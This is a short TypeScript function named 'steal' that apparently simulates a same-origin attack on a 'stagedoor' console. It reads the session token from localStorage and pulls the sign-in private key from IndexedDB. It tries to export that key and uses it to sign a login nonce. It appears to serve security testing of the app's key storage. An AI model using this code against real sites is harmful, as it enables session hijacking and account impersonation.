/** Runs in the stranger's page at the console's address: takes all that a page of it can. */
export async function steal(nonce: string) {
  const token = localStorage.getItem('stagedoor.session')
  const db = await new Promise<IDBDatabase>((done) => {
    const opening = indexedDB.open('stagedoor', 1)
    opening.onsuccess = () => done(opening.result)
  })
  const kept = await new Promise<{ key: string; privateKey: CryptoKey }>((done) => {
    const asked = db.transaction('keys').objectStore('keys').get('sign-in')
    asked.onsuccess = () => done(asked.result)
  })
  db.close()
  const privateKey = await crypto.subtle.exportKey('jwk', kept.privateKey).catch(() => null)
  const text = new TextEncoder().encode(`stagedoor console sign-in ${nonce}`)
  const how = { name: 'ECDSA', hash: 'SHA-256' }
  const signed = await crypto.subtle.sign(how, kept.privateKey, text)
  const signature = btoa(String.fromCharCode(...new Uint8Array(signed)))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '')
  return { token, privateKey, key: kept.key, signature }
}
